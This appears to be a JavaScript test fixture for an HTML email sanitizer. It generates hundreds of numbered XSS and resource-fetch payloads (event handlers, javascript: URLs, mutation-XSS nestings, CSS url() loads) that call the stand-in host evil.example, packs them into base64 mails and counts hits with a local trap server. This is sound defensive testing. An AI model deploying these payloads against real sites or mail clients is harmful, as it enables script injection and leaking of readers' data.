/**
 * More than three hundred hostile bodies: ways to run something and ways to fetch something, made of tables of tags, attributes,
 * writings and nestings that browsers forgive. Everything they ask for lies at one evil address, where a trap counts.
 */
import { createServer } from 'node:http';

export const OUT = 'http://evil.example';
const RUN = "top.postMessage('ran','*');parent.document.title='ran';fetch('http://evil.example/ran')";
/** One transparent pixel, so that `load` happens without asking anybody. */
const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7';

/** Tags whose handler is called by itself. */
const handlers = [
  ['img src=x', 'onerror'], [`img src="${PIXEL}"`, 'onload'], ['img/src=x/', 'onerror'], ['image src=x', 'onerror'], ['video src=x', 'onerror'], ['audio src=x', 'onerror'],
  ['video src=x', 'onloadstart'], ['audio src=x', 'onloadstart'], ['input type=image src=x', 'onerror'], ['object data=x', 'onerror'], ['embed src=x', 'onerror'],
  ['script src=x', 'onerror'], ['link rel=stylesheet href=x', 'onerror'], ['link rel=stylesheet href="data:text/css,"', 'onload'], ['style', 'onload'], ['body', 'onload'], ['body', 'onpageshow'],
  ['body', 'onfocus'], ['body', 'onscroll'], ['body', 'onresize'], ['body', 'onmessage'], ['frameset', 'onload'], ['iframe', 'onload'], ['iframe srcdoc=x', 'onload'], ['svg', 'onload'],
  ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'], ['button autofocus', 'onfocus'], ['a href=# autofocus', 'onfocus'],
  ['div tabindex=1 autofocus', 'onfocus'], ['x contenteditable autofocus', 'onfocus'], ['details open', 'ontoggle'], ['dialog open', 'onfocusin'], ['marquee', 'onstart'], ['marquee loop=1 width=0', 'onfinish'],
  ['x style="animation:x 1ms"', 'onanimationstart'], ['x style="animation:x 1ms"', 'onanimationend'], ['x style="transition:color 1ms"', 'ontransitionrun'], ['x style="content-visibility:auto"', 'oncontentvisibilityautostatechange'],
  ['keygen autofocus', 'onfocus'], ['isindex type=image src=1', 'onerror'], ['bgsound src=x', 'onload'], ['layer src=x', 'onload'], ['applet code=x', 'onerror'], ['track default src=x', 'onerror'],
];

/** Writings of a tag with a handler that parsers read alike. */
const writings = [
  (tag, on) => `<${tag} ${on}="${RUN}">x</${tag.split(/[ /]/)[0]}>`,
];
const oddWritings = [
  (tag, on) => `<${tag.toUpperCase()} ${on.toUpperCase()} = '${RUN}'>`,
  (tag, on) => `<${tag}\n${on}\n=\n"${RUN}"\n>`,
  (tag, on) => `<${tag}\x0c${on}=${RUN.replaceAll("'", '&apos;')}>`,
  (tag, on) => `<${tag} ${on}="${[...RUN].map((c) => `&#${c.charCodeAt(0)};`).join('')}">`,
  (tag, on) => `<${tag} ${on}="${[...RUN].map((c) => `&#x${c.charCodeAt(0).toString(16)}`).join(';')}">`,
  (tag, on) => `<<${tag} ${on}="${RUN}"//>`,
  (tag, on) => `<${tag} a="\`" ${on}="${RUN}" b="\`">`,
  (tag, on) => `<${tag} ${on}="${RUN}"`,
];

/** Attributes that take an address which may be a script. */
const addresses = [
  (u) => `<a href="${u}" id=click>x</a>`, (u) => `<a target=_top href="${u}">x</a>`, (u) => `<iframe src="${u}"></iframe>`, (u) => `<embed src="${u}">`, (u) => `<object data="${u}"></object>`,
  (u) => `<form action="${u}"><button autofocus>x</button></form>`, (u) => `<form><button formaction="${u}">x</button></form>`, (u) => `<meta http-equiv=refresh content="0;url=${u}">`,
  (u) => `<base href="${u}//"><a href=x>x</a>`, (u) => `<img src="${u}">`, (u) => `<body background="${u}">`, (u) => `<frameset><frame src="${u}"></frameset>`, (u) => `<map><area shape=default href="${u}"></map>`,
  (u) => `<svg><a xlink:href="${u}"><text y=20>x</text></a></svg>`, (u) => `<svg><use href="${u}"/></svg>`, (u) => `<svg><a><set attributeName=href to="${u}"/><animate attributeName=href values="${u}"/><text y=20>x</text></a></svg>`,
  (u) => `<math href="${u}"><mtext>x</mtext></math>`, (u) => `<link rel=stylesheet href="${u}">`,
];
const scriptUrls = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` \x01javascript:${RUN}`, `java&#x0A;script:${RUN}`, `java\tscript:${RUN}`, `javascript&colon;${RUN}`, `&#106;&#97;vascript&#58;${RUN}`, `vbscript:${RUN}`,
  `data:text/html,<script>${encodeURIComponent(RUN)}</script>`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${encodeURIComponent(RUN)}"/>`,
];

const scripts = [
  `<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT >`, `<script src="${OUT}/s.js"></script>`, `<script type=module>import '${OUT}/m.js'</script>`, `<script src="data:text/javascript,${encodeURIComponent(RUN)}"></script>`,
  `<script/x>${RUN}</script>`, `<script\n>${RUN}</script\n>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<svg><script>${RUN}</script></svg>`, `<svg><script href="${OUT}/x.js"/></svg>`, `<svg><script xlink:href="data:,${encodeURIComponent(RUN)}"/></svg>`,
  `<math><script>${RUN}</script></math>`, `<!--><script>${RUN}</script>-->`, `<!--!><img src=x onerror="${RUN}">-->`, `<!---!><script>${RUN}</script>`, `<![CDATA[<script>${RUN}</script>]]>`, `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<?xml-stylesheet href="${OUT}/x.xsl"?><x>`, `<!DOCTYPE html [<!ENTITY x "<script>${RUN}</script>">]>&x;`, `<script type=speculationrules>{"prefetch":[{"urls":["${OUT}/spec"]}]}</script>`, `<script type=importmap>{"imports":{"x":"${OUT}/map.js"}}</script>`,
  `<template shadowrootmode=open><script>${RUN}</script><img src="${OUT}/shadow.png"></template>`, `<div><template shadowrootmode=open><style>@import "${OUT}/sh.css"</style></template></div>`, `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<iframe srcdoc="<img src=${OUT}/srcdoc.png>" sandbox="allow-scripts allow-top-navigation"></iframe>`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `<\x00script>${RUN}</\x00script>`, `<script x="</script>"><img src=x onerror="${RUN}">`, `<a is="x-y" onclick="${RUN}">x</a><x-y></x-y>`,
];

/** What a cleaner and a browser read differently. */
const hidden = `<img src=x onerror="${RUN}">`;
const nestings = [
  `<svg></p><style><a id="</style>${hidden}">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${hidden.replaceAll('<', '&lt;').replaceAll('"', '')}">`, `<form><math><mtext></form><form><mglyph><style></math>${hidden}`,
  `<noscript><p title="</noscript>${hidden.replaceAll('"', '')}">`, `<svg><desc><noscript><p title='</noscript>${hidden}'>`, `<svg><foreignObject><style><a title="</style>${hidden}">`, `<math><annotation-xml encoding="text/html"><style><!--</style><p>${hidden}`,
  `<math><annotation-xml encoding="application/xhtml+xml">${hidden}`, `<svg><title><![CDATA[</title>${hidden}]]>`, `<svg><style>&lt;/style&gt;${hidden.replaceAll('<', '&lt;')}`, `<title>&lt;/title&gt;</title></title>${hidden}`, `<textarea></textarea x>${hidden}`,
  `<textarea>&lt;/textarea&gt;</textarea>${hidden}`, `<xmp><p title="</xmp>${hidden.replaceAll('"', '')}">`, `<noembed><p title="</noembed>${hidden.replaceAll('"', '')}">`, `<noframes><p title="</noframes>${hidden.replaceAll('"', '')}">`, `<listing>&lt;/listing&gt;${hidden}`,
  `<iframe><p title="</iframe>${hidden.replaceAll('"', '')}">`, `<select><template></select>${hidden}</template>`, `<select><style></select>${hidden}</style>`, `<option><style></option></select>${hidden}</style>`, `<table><a href=x><table>${hidden}</a>`, `<table><tr><select>${hidden}</table>`,
  `<b><p></b>${hidden}`, `<a><div><a>${hidden}`, `<p><svg><p>${hidden}`, `<svg><p><style>${hidden}`, `<math><mi><style><img src="</style>${hidden}">`, `<math><ms><xmp></math>${hidden}`, `<svg><desc><style></desc></svg>${hidden}</style>`, `<template><template><script>${RUN}</script></template>${hidden}</template>`,
  `${'<div>'.repeat(600)}${hidden}`, `${'<b>'.repeat(2_000)}${hidden}`, `${'<table><tr><td>'.repeat(200)}${hidden}`, `${'<svg>'.repeat(300)}${hidden}`, `${'<math><mtext>'.repeat(200)}${hidden}`, `${'<form>'.repeat(300)}${hidden}`, `${'<blockquote>'.repeat(900)}<script>${RUN}</script>`,
  `<plaintext>${hidden}`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `<p title="&quot;><script>${RUN}</script>">x</p>`, `<img title='"><script>${RUN}</script>' alt="'>${hidden}">`, `<form name=parent><input name=document><img name=cookie src=x></form>${hidden}`, `<a id=getElementById></a><img name=body><form id=attributes><input name=nodeName></form>${hidden}`,
];

/** Places of a style that take an address. */
const properties = ['background', 'background-image', 'list-style', 'list-style-image', 'border-image', 'border-image-source', 'cursor', 'mask', 'mask-image', '-webkit-mask-image', 'clip-path', 'filter', 'backdrop-filter', 'shape-outside', 'offset-path', 'content'];
const cssAddresses = [
  (u) => `url(${u})`, (u) => `url('${u}')`, (u) => `u\\72l(${u})`, (u) => `image-set('${u}' 1x)`, (u) => `-webkit-image-set(url(${u}) 1x)`, (u) => `cross-fade(url(${u}), url(${u}), 50%)`, (u) => `URL(/**/"${u}")`, (u) => `src("${u}")`,
];
const styles = [
  (u) => `<style>@import "${u}";</style>`, (u) => `<style>@import url(${u});</style>`, (u) => `<style>@im\\70ort '${u}';</style>`, (u) => `<style><!-- @import "${u}"; --></style>`, (u) => `<style>@charset "utf-7";@import "${u}" screen;</style>`,
  (u) => `<style>@font-face{font-family:f;src:url(${u})}p{font-family:f}</style><p>x</p>`, (u) => `<style>@font-face{font-family:g;src:local(x),url(${u}) format("woff2");unicode-range:U+61}p{font:9px g}</style><p>aaa</p>`,
  (u) => `<style>:root{--x:url(${u})}p{background:var(--x)}</style><p>x</p>`, (u) => `<style>input[value^="a"]{background:url(${u})}</style><input value=abc>`, (u) => `<style>p::before{content:url(${u})}</style><p>x</p>`, (u) => `<style>@media all{p{background:url(${u})}}</style><p>x</p>`,
  (u) => `<style>@supports (display:block){p{background:url(${u})}}</style><p>x</p>`, (u) => `<style>@layer a{p{background:url(${u})}}</style><p>x</p>`, (u) => `<style>@keyframes k{to{background:url(${u})}}p{animation:k 1ms forwards}</style><p>x</p>`, (u) => `<style>@namespace url(${u});@page{background:url(${u})}</style>`,
  (u) => `<style>p{width:expression(fetch('${u}'));behavior:url(${u});-moz-binding:url(${u}#x)}</style><p>x</p>`, (u) => `<style media="all">html,body{background:url(${u})!important}</style>`, (u) => `<svg><style>@import "${u}";</style></svg>`, (u) => `<svg><rect fill="url(${u}#a)" filter="url(${u}#f)" mask="url(${u}#m)" width=9 height=9 /></svg>`,
  (u) => `<svg><rect style="fill:url(${u}#a);cursor:url(${u})" marker-start="url(${u}#s)" clip-path="url(${u}#c)" width=9 height=9 /></svg>`,
];

/** Tags that fetch by themselves. */
const fetches = [
  (u) => `<img src="${u}" width=1 height=1>`, (u) => `<img src="//evil.example/rel.png">`, (u) => `<img src="\\\\evil.example\\back.png">`, (u) => `<img src="ht\ntp://evil.example/nl.png">`, (u) => `<img src="&#104;ttp://evil.example/ent.png">`, (u) => `<img srcset="${u} 1x, ${u}2 2x">`, (u) => `<img src="${PIXEL}" srcset="${u} 9x">`,
  (u) => `<img loading=eager fetchpriority=high src="${u}">`, (u) => `<img lowsrc="${u}" dynsrc="${u}" longdesc="${u}">`, (u) => `<img usemap="${u}#x" src="${u}?m">`, (u) => `<image src="${u}">`, (u) => `<picture><source srcset="${u}"><img></picture>`, (u) => `<video src="${u}" autoplay></video>`, (u) => `<video poster="${u}"></video>`,
  (u) => `<video autoplay><source src="${u}"></video>`, (u) => `<video><track default kind=captions src="${u}"></video>`, (u) => `<audio src="${u}" preload=auto autoplay></audio>`, (u) => `<embed src="${u}">`, (u) => `<object data="${u}"></object>`, (u) => `<object><param name=movie value="${u}"></object>`, (u) => `<applet code="${u}" archive="${u}"></applet>`,
  (u) => `<iframe src="${u}"></iframe>`, (u) => `<iframe loading=eager srcdoc="<img src=${u}>"></iframe>`, (u) => `<frameset><frame src="${u}"></frameset>`, (u) => `<portal src="${u}"></portal><fencedframe src="${u}"></fencedframe>`, (u) => `<input type=image src="${u}">`, (u) => `<table background="${u}"><tr><td background="${u}?d">x</td></tr></table>`,
  (u) => `<body background="${u}">`, (u) => `<bgsound src="${u}"><layer src="${u}"></layer><ilayer src="${u}"></ilayer>`, (u) => `<html manifest="${u}">`, (u) => `<svg><image href="${u}"/></svg>`, (u) => `<svg><image xlink:href="${u}" width=9 height=9 /></svg>`, (u) => `<svg><use href="${u}#a"/></svg>`, (u) => `<svg><filter id=f><feImage href="${u}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  (u) => `<svg><foreignObject width=9 height=9><img src="${u}"><iframe src="${u}?f"></iframe></foreignObject></svg>`, (u) => `<svg><pattern id=p><image href="${u}"/></pattern><rect fill="url(#p)" width=9 height=9 /></svg>`, (u) => `<svg><mpath href="${u}"/><textPath href="${u}">x</textPath></svg>`, (u) => `<math><mglyph src="${u}"/><annotation-xml src="${u}">x</annotation-xml></math>`,
  ...['stylesheet', 'alternate stylesheet', 'icon', 'shortcut icon', 'apple-touch-icon', 'prefetch', 'prerender', 'modulepreload', 'manifest', 'next', 'import', 'search', 'pingback', 'dns-prefetch', 'preconnect', 'expect'].map((rel) => (u) => `<link rel="${rel}" href="${u}">`),
  ...['image', 'script', 'style', 'font', 'fetch', 'track'].map((as) => (u) => `<link rel=preload as=${as} href="${u}" crossorigin>`), (u) => `<link rel=preload as=image imagesrcset="${u} 1x">`, (u) => `<link rel=stylesheet media=print href="${u}">`, (u) => `<link rel=stylesheet href="data:text/css,@import'${u}'">`,
  (u) => `<meta http-equiv="refresh" content="0;url=${u}">`, (u) => `<meta http-equiv="REFRESH" content="0 ; URL='${u}'">`, (u) => `<meta http-equiv="&#114;efresh" content="0,${u}">`, (u) => `<noscript><meta http-equiv=refresh content="0;url=${u}"></noscript>`, (u) => `<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri ${u}">${hidden}`,
  (u) => `<meta http-equiv=Link content="<${u}>; rel=preload; as=image">`, (u) => `<meta http-equiv=set-cookie content="a=b"><meta name=referrer content=unsafe-url><img src="${u}">`, (u) => `<base href="${u}/"><img src="relative.png"><link rel=stylesheet href=r.css>`, (u) => `<base target=_top href="${u}"><a href=x id=click>x</a>`,
  (u) => `<form action="${u}" method=post id=f><input name=p value=1></form><button form=f autofocus>x</button>`, (u) => `<form action="${u}" target=_top><input type=submit autofocus></form>`, (u) => `<a ping="${u}" href="#">x</a>`, (u) => `<a href="${u}" target=_blank rel=opener download>x</a>`, (u) => `<blockquote cite="${u}"><del cite="${u}">x</del></blockquote>`,
  (u) => `<div style="background:#fff url(${u}) fixed;position:fixed;inset:0;z-index:9">x</div>`, (u) => `<input autofocus style="background:url(${u})">`, (u) => `<details open><summary>x</summary><img src="${u}"></details>`, (u) => `<dialog open><img src="${u}"></dialog>`, (u) => `<div popover id=p><img src="${u}"></div>`, (u) => `<object type="text/x-scriptlet" data="${u}"></object>`,
  (u) => `<object data="data:text/html,<img src=${u}>"></object>`, (u) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${u}'/></svg>">`, (u) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='${u}'/></svg>">`, (u) => `<xml src="${u}" id=x></xml><x datasrc="#x"></x>`,
];

/** Every body, numbered; an own address each, so that a hit says whose it is. */
export function hostileBodies() {
  let n = 0;
  const at = () => `${OUT}/${n}`;
  const made = [];
  const add = (html) => {
    made.push(`<p>corpo ${n}</p>${html}<p>fine ${n}</p>`);
    n++;
  };
  for (const html of [...scripts, ...nestings]) add(html);
  for (const [tag, on] of handlers) for (const write of writings) add(write(tag, on));
  handlers.slice(0, 4).forEach(([tag, on]) => oddWritings.forEach((write) => add(write(tag, on))));
  // Every address once with each way to write a script, in turn: the whole product says nothing more.
  addresses.forEach((place, i) => [0, 3, 7].forEach((step) => add(place(scriptUrls[(i + step) % scriptUrls.length]))));
  properties.forEach((property, i) => [0, 1].forEach((step) => add(`<p style="${property}:${cssAddresses[(i + step * 3) % cssAddresses.length](at()).replaceAll('"', '&quot;')}">x</p>`)));
  for (const style of [...styles, ...fetches]) add(style(at()));
  return made;
}

/** A mail of the evil domain to the desk, its body packed so that nothing on the way reads it. */
export function hostileMail(subject, html) {
  const id = `${subject.replace(/\W/g, '')}@evil.example`;
  return [
    `From: Mittente Cattivo <cattivo@evil.example>`, 'To: urp@comune.example', `Subject: ${subject}`, `Date: ${new Date().toUTCString().replace('GMT', '+0000')}`,
    `Message-ID: <${id}>`, 'MIME-Version: 1.0', 'Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64', '',
    Buffer.from(html).toString('base64').replace(/(.{76})/g, '$1\r\n'), '',
  ].join('\r\n');
}

/**
 * Where the evil domain leads: whoever asks is counted, whatever it wanted. A connection alone does not
 * count: Chromium opens one for a frame before the policy refuses to fill it, and says nothing over it.
 */
export async function trap() {
  const asked = [];
  const server = createServer((request, answer) => {
    asked.push(`${request.method} ${request.url}`);
    answer.end();
  });
  await new Promise((listening) => server.listen(0, '127.0.0.1', listening));
  return { port: server.address().port, asked, close: () => server.closeAllConnections() ?? server.close() };
}
